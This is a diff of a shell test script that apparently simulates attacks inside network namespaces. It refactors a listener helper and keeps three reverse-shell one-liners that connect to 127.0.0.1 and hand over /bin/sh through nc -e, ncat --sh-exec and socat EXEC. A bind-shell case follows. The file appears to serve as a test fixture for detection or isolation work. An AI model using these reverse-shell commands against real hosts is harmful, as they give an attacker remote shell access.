@@ -5,15 +5,9 @@
 source "$ATTACK_LIB"
 source "$(dirname "$ATTACK_LIB")/netns.sh"
 
-# The attacker's side: a listener that sends one command and closes.
-listen() {
-	port=$(free_port)
-	printf 'id\nexit\n' | timeout 10 nc -lN 127.0.0.1 "$port" >/dev/null &
-	wait_listen 127.0.0.1 "$port"
-}
-listen; timeout 10 nc.traditional 127.0.0.1 "$port" -e /bin/sh || true
-listen; timeout 10 ncat 127.0.0.1 "$port" --sh-exec 'exec /bin/sh' || true
-listen; timeout 10 socat "TCP:127.0.0.1:$port" EXEC:/bin/sh || true
+listen_once; timeout 10 nc.traditional 127.0.0.1 "$port" -e /bin/sh || true
+listen_once; timeout 10 ncat 127.0.0.1 "$port" --sh-exec 'exec /bin/sh' || true
+listen_once; timeout 10 socat "TCP:127.0.0.1:$port" EXEC:/bin/sh || true
 wait
 # A bind shell: the victim listens, the attacker connects.
 port=$(free_port)
